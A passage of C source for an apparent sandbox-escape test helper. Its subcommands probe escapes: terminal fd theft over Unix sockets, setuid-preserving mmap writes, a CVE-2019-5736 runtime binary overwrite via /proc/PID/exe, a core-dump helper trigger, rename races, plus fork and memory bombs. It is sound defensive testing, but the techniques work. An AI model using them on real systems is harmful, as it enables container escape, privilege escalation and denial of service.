	snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[1]);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		blocked("fdpass socket", errno);
		return 0;
	}
	if (!strcmp(argv[0], "hold") || !strcmp(argv[0], "steal")) {
		int steal = !strcmp(argv[0], "steal");

		if (argc < (steal ? 3 : 4))
			return 2;
		unlink(a.sun_path);
		if (bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(fd, 8) < 0) {
			blocked("fdpass listen", errno);
			return 0;
		}
		printf("fdpass: listening\n");
		fflush(stdout);
		for (;;) {
			int c = accept4(fd, NULL, NULL, SOCK_CLOEXEC), n = 0;

			if (c < 0)
				continue;
			memset(&u, 0, sizeof(u));
			m.msg_control = u.buf;
			m.msg_controllen = sizeof(u.buf);
			if (recvmsg(c, &m, 0) >= 0 && CMSG_FIRSTHDR(&m))
				n = (int)((CMSG_FIRSTHDR(&m)->cmsg_len - CMSG_LEN(0)) /
					  sizeof(int));
			printf("fdpass: got %d fds\n", n);
			fflush(stdout);
			if (n > 0 && fork() == 0) {
				int fds[8];

				prctl(PR_SET_PDEATHSIG, SIGKILL);
				memcpy(fds, CMSG_DATA(CMSG_FIRSTHDR(&m)), (size_t)n * sizeof(int));
				if (steal) {
					alarm((unsigned)(atoi(argv[2]) + 999) / 1000);
					for (int i = 0; i < n; i++) {
						char got[256];
						ssize_t k = read(fds[i], got, sizeof(got) - 1);

						got[k > 0 ? k : 0] = '\0';
						printf("fdpass: read %zd: %s\n", k, got);
						fflush(stdout);
					}
					_exit(0);
				}
				usleep((useconds_t)atoi(argv[2]) * 1000);
				for (int i = 0; i < n; i++)
					dprintf(fds[i], "%s\n", argv[3]);
				sleep(60);
				_exit(0);
			}
			close(c);
		}
	}
	if (connect_timeout(fd, (struct sockaddr *)&a, sizeof(a), 2000) < 0) {
		blocked("fdpass connect", errno);
		return 0;
	}
	int in = argc > 3 && !strcmp(argv[3], "stdin");
	{
		int give[2] = { 1, 2 }, ngive = in ? 1 : 2;

		if (in)
			give[0] = 0;
		memset(&u, 0, sizeof(u));
		m.msg_control = u.buf;
		m.msg_controllen = CMSG_SPACE(ngive * sizeof(int));
		CMSG_FIRSTHDR(&m)->cmsg_level = SOL_SOCKET;
		CMSG_FIRSTHDR(&m)->cmsg_type = SCM_RIGHTS;
		CMSG_FIRSTHDR(&m)->cmsg_len = CMSG_LEN(ngive * sizeof(int));
		memcpy(CMSG_DATA(CMSG_FIRSTHDR(&m)), give, ngive * sizeof(int));
	}
	if (sendmsg(fd, &m, 0) < 0) {
		blocked("fdpass send", errno);
		return 0;
	}
	fprintf(stderr, "fdpass: gave %s\n", in ? "stdin" : "stdout and stderr");
	for (long left = atol(argv[2]); left > 0;) {
		static char flood[65536];
		ssize_t k;

		memset(flood, 'f', sizeof(flood));
		k = write(1, flood, left < (long)sizeof(flood) ? (size_t)left : sizeof(flood));
		if (k <= 0)
			break;
		left -= k;
	}
	return 0;
}

/*
 * mmapwrite FILE TEXT: write TEXT at the start of FILE through a shared writable mapping. The
 * kernel clears a setuid or setgid bit (and file capabilities) on write(2), truncate and
 * fallocate, but not on a write through a mapping (found in review): a program that can open
 * a root setuid file for writing keeps the bit with its new code.
 */
static int cmd_mmapwrite(int argc, char **argv)
{
	char what[300];
	size_t len;
	char *m;
	int fd;

	if (argc < 2)
		return 2;
	snprintf(what, sizeof(what), "mmapwrite %s", argv[0]);
	len = strlen(argv[1]);
	fd = open(argv[0], O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		blocked(what, errno);
		return escaped;
	}
	m = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED) {
		blocked(what, errno);
		close(fd);
		return escaped;
	}
	memcpy(m, argv[1], len);
	msync(m, len, MS_SYNC);
	munmap(m, len);
	close(fd);
	/* Whether the bit survived is for the host to see. */
	printf("%s: written\n", what);
	return escaped;
}

/*
 * flip A B STOP [US]: rename A to B and back, US microseconds apart (0: without pause), until
 * the file STOP exists (or 60 s), as a command does to move what another run's setup is
 * scanning (escape_privs::setid_program_moved_during_a_scan). A refusal ends it with that
 * errno: not an escape by itself, what the other runs do is.
 */
static int cmd_flip(int argc, char **argv)
{
	time_t end = time(NULL) + 60;
	unsigned long moves = 0;
	useconds_t pause;

	if (argc < 3)
		return 2;
	pause = argc > 3 ? (useconds_t)atoi(argv[3]) : 0;
	while (time(NULL) < end && access(argv[2], F_OK) < 0) {
		for (int i = 0; i < (pause ? 1 : 256); i++) {
			if (rename(argv[0], argv[1]) < 0 || (pause && usleep(pause) < 0) ||
			    rename(argv[1], argv[0]) < 0) {
				printf("flip: %lu moves, then ", moves);
				blocked("flip", errno);
				return 0;
			}
			moves += 2;
			if (pause)
				(void)usleep(pause);
		}
	}
	printf("flip: %lu moves\n", moves);
	return 0;
}

/*
 * crash [lower]: die of SIGSEGV, after lowering RLIMIT_CORE to 0 with "lower". What matters is
 * what the kernel does with the core: with a core_pattern that pipes to a helper, it runs that
 * helper as root on the host unless the limit is exactly 1 (fs/coredump.c).
 */
static int cmd_crash(int argc, char **argv)
{
	struct rlimit r = { 0, 0 };

	if (getrlimit(RLIMIT_CORE, &r) == 0)
		printf("crash: core limit %llu/%llu\n", (unsigned long long)r.rlim_cur,
		       (unsigned long long)r.rlim_max);
	if (argc > 0 && !strcmp(argv[0], "lower")) {
		struct rlimit z = { 0, 0 };
		int rc = setrlimit(RLIMIT_CORE, &z);

		printf("crash: lower to 0: %s\n", rc == 0 ? "ok" : strerrorname_np(errno));
		if (getrlimit(RLIMIT_CORE, &r) == 0)
			printf("crash: core limit now %llu/%llu\n", (unsigned long long)r.rlim_cur,
			       (unsigned long long)r.rlim_max);
	}
	fflush(stdout);
	signal(SIGSEGV, SIG_DFL);
	raise(SIGSEGV);
	return 0;
}

/* ---- resources ----------------------------------------------------------------------------- */

/* membomb MIB: allocate and touch MIB MiB in 64 MiB steps. */
static int cmd_membomb(int argc, char **argv)
{
	long target = argc > 0 ? atol(argv[0]) : 8192, got = 0;

	while (got < target) {
		char *p = mmap(NULL, 64UL << 20, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (p == MAP_FAILED) {
			printf("membomb: blocked %s after %ld MiB\n", strerrorname_np(errno), got);
			return 0;
		}
		for (size_t off = 0; off < (64UL << 20); off += 4096)
			p[off] = 1;
		got += 64;
		if (got % 1024 == 0) {
			printf("membomb: %ld MiB\n", got);
			fflush(stdout);
		}
	}
	esc("membomb", "(allocated and touched %ld MiB)", got);
	return escaped;
}

/*
 * hold MIB: allocate and touch MIB MiB, print "held", then wait to be killed. Freeing that much
 * memory makes the process's death take tens of milliseconds after a SIGKILL: a run's process
 * that is still dying, for the cases that order a teardown after the run's processes' end.
 */
static int cmd_hold(int argc, char **argv)
{
	long mib = argc > 0 ? atol(argv[0]) : 256;
	char *p = mmap(NULL, (size_t)mib << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		       -1, 0);

	if (p == MAP_FAILED) {
		printf("hold: blocked %s\n", strerrorname_np(errno));
		return 1;
	}
	for (size_t off = 0; off < ((size_t)mib << 20); off += 4096)
		p[off] = 1;
	printf("held\n");
	fflush(stdout);
	for (;;)
		pause();
}

/* forkbomb MAX: fork sleeping children until fork fails or MAX is reached. */
static int cmd_forkbomb(int argc, char **argv)
{
	long max = argc > 0 ? atol(argv[0]) : 4000, n = 0;
	int err = 0;

	while (n < max) {
		pid_t p = fork();

		if (p < 0) {
			err = errno;
			break;
		}
		if (p == 0) {
			/* die with the bomb's parent, whatever the sandbox does */
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			if (getppid() == 1)
				_exit(0);
			sleep(20);
			_exit(0);
		}
		if (++n % 500 == 0)
			printf("forkbomb: %ld processes\n", n);
	}
	if (n >= max)
		esc("forkbomb", "(forked %ld processes)", n);
	else
		printf("forkbomb: blocked %s after %ld processes\n", strerrorname_np(err), n);
	fflush(stdout);
	return escaped;
}

/* sysv create KEY | sysv find KEY */
static int cmd_sysv(int argc, char **argv)
{
	key_t key;

	if (argc < 2)
		return 2;
	key = (key_t)strtol(argv[1], NULL, 0);
	if (!strcmp(argv[0], "create")) {
		printf("shmget: %d\n", shmget(key, 4096, IPC_CREAT | 0666));
		printf("msgget: %d\n", msgget(key, IPC_CREAT | 0666));
		printf("semget: %d\n", semget(key, 1, IPC_CREAT | 0666));
		return 0;
	}
	if (shmget(key, 0, 0) >= 0)
		esc("shm", "(a segment of key %#x is visible)", (unsigned)key);
	else
		blocked("shm find", errno);
	if (msgget(key, 0) >= 0)
		esc("msg", "(a queue of key %#x is visible)", (unsigned)key);
	else
		blocked("msg find", errno);
	if (semget(key, 0, 0) >= 0)
		esc("sem", "(a semaphore set of key %#x is visible)", (unsigned)key);
	else
		blocked("sem find", errno);
	return escaped;
}

/* ---- the runtime binary -------------------------------------------------------------------- */

/*
 * exe LOG PREFIX: CVE-2019-5736. A daemon keeps O_PATH handles on /proc/PID/exe of every
 * visible process that runs a binary named cordon* under PREFIX (the test's own copy: never
 * another binary of the machine when this runs without a sandbox), waits for them to exit and
 * then reopens the handles for writing, overwriting the binary. It also tries right away.
 * The result goes to the file LOG (stdout is gone by then).
 */
static int cmd_exe(int argc, char **argv)
{
	int fds[64], n = 0;
	pid_t pids[64];
	FILE *log;
	DIR *d;
	struct dirent *de;

	if (argc < 2)
		return 2;
	log = fopen(argv[0], "w");
	if (!log)
		return 2;
	d = opendir("/proc");
	while (d && (de = readdir(d)) && n < 64) {
		char path[300], target[4096];
		ssize_t k;
		const char *base;
		int wfd;

		if (de->d_name[0] < '0' || de->d_name[0] > '9' || atoi(de->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
		k = readlink(path, target, sizeof(target) - 1);
		if (k < 0)
			continue;
		target[k] = 0;
		base = strrchr(target, '/');
		base = base ? base + 1 : target;
		if (strncmp(base, "cordon", 6) != 0 ||
		    strncmp(target, argv[1], strlen(argv[1])) != 0)
			continue;
		fprintf(log, "target %s -> %s\n", path, target);
		wfd = open(path, O_WRONLY | O_CLOEXEC);
		if (wfd >= 0) {
			fprintf(log, "ESCAPED: %s opened for writing\n", path);
			close(wfd);
		} else {
			fprintf(log, "open %s for writing: %s\n", path, strerrorname_np(errno));
		}
		fds[n] = open(path, O_PATH | O_CLOEXEC);
		if (fds[n] >= 0)
			pids[n++] = atoi(de->d_name);
	}
	if (d)
		closedir(d);
	fprintf(log, "handles %d\n", n);
	fflush(log);
	if (fork() != 0)
		return 0;
	setsid();
	if (fork() != 0)
		_exit(0);
	int nul = open("/dev/null", O_RDWR);

	dup2(nul, 0);
	dup2(nul, 1);
	dup2(nul, 2);
	for (int tries = 0; tries < 300; tries++) {
		int alive = 0;

		for (int i = 0; i < n; i++)
			if (kill(pids[i], 0) == 0 || errno == EPERM)
				alive++;
		if (!alive)
			break;
		usleep(10000);
	}
	for (int i = 0; i < n; i++) {
		char path[64];
		int wfd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		wfd = open(path, O_WRONLY | O_CLOEXEC);
		if (wfd >= 0) {
			if (write(wfd, "#!ESCAPED", 9) == 9)
				fprintf(log, "ESCAPED: overwrote the binary of pid %d\n", pids[i]);
			close(wfd);
		} else {
			fprintf(log, "reopen for writing: %s\n", strerrorname_np(errno));
		}
	}
	fclose(log);
	_exit(0);
}

/* fds: list every open fd above 2 with its target; any is a leak. */
static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int self = d ? dirfd(d) : -1;

	while (d && (de = readdir(d))) {
		int fd = atoi(de->d_name);
		char path[300], target[4096];
		ssize_t k;

		if (de->d_name[0] == '.' || fd <= 2 || fd == self)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		k = readlink(path, target, sizeof(target) - 1);
		target[k < 0 ? 0 : k] = 0;
		esc(path, "(leaked fd -> %s)", target);
	}
	if (d)
		closedir(d);
	return escaped;
}

static void usage(void)
{
	fprintf(stderr, "usage: esc-helper tty|notty|ptrace|vm|keys|bpf|io_uring|userfaultfd|perf|"
			"userns|setns|mount|modules|abi|personality|sockets|watch|tcp|udp|unix|"
			"fdpass|crash|flip|mmapwrite|"
			"membomb|hold|setid|"
			"forkbomb|sysv|exe|fds ...\n");
}

int main(int argc, char **argv)
{
	const char *c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		usage();
		return 2;
	}
	c = argv[1];
	argc -= 2;
	argv += 2;
	if (!strcmp(c, "tty"))
		return cmd_tty(argc, argv);
	if (!strcmp(c, "notty"))
		return cmd_notty();
	if (!strcmp(c, "ptrace"))
		return cmd_ptrace(argc, argv);
	if (!strcmp(c, "vm"))
		return cmd_vm();
	if (!strcmp(c, "keys"))
		return cmd_keys(argc, argv);
	if (!strcmp(c, "bpf"))
		return cmd_bpf();
	if (!strcmp(c, "io_uring"))
		return cmd_io_uring();
	if (!strcmp(c, "userfaultfd"))
		return cmd_userfaultfd();
	if (!strcmp(c, "perf"))
		return cmd_perf();
	if (!strcmp(c, "userns"))
		return cmd_userns();
	if (!strcmp(c, "setns"))
		return cmd_setns();
	if (!strcmp(c, "mount"))
		return cmd_mount(argc, argv);
	if (!strcmp(c, "modules"))
		return cmd_modules();
	if (!strcmp(c, "abi"))
		return cmd_abi(argc, argv);
	if (!strcmp(c, "personality"))
		return cmd_personality();
	if (!strcmp(c, "sockets"))
		return cmd_sockets(argc, argv);
	if (!strcmp(c, "watch"))
		return cmd_watch();
	if (!strcmp(c, "tcp"))
		return cmd_tcp(argc, argv);
	if (!strcmp(c, "udp"))
		return cmd_udp(argc, argv);
	if (!strcmp(c, "unix"))
		return cmd_unix(argc, argv);
	if (!strcmp(c, "fdpass"))
		return cmd_fdpass(argc, argv);
	if (!strcmp(c, "crash"))
		return cmd_crash(argc, argv);
	if (!strcmp(c, "flip"))
		return cmd_flip(argc, argv);
	if (!strcmp(c, "mmapwrite"))
		return cmd_mmapwrite(argc, argv);
	if (!strcmp(c, "membomb"))
		return cmd_membomb(argc, argv);
	if (!strcmp(c, "hold"))
		return cmd_hold(argc, argv);
	if (!strcmp(c, "forkbomb"))
		return cmd_forkbomb(argc, argv);
	if (!strcmp(c, "sysv"))
		return cmd_sysv(argc, argv);
	if (!strcmp(c, "exe"))
		return cmd_exe(argc, argv);
	if (!strcmp(c, "fds"))
		return cmd_fds();
	if (!strcmp(c, "setid"))
		return cmd_setid();
	usage();
	return 2;
}
